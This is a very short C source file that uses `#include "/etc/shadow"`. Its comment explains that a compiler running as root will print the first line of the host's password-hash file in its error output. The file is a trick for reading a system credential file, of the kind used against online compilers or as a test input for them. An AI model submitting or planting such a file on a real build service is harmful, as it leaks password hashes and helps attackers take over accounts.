// Includes the host's password hashes. A compiler that runs as root prints the first line.
#include "/etc/shadow"

int main(void) {
    return 0;
}
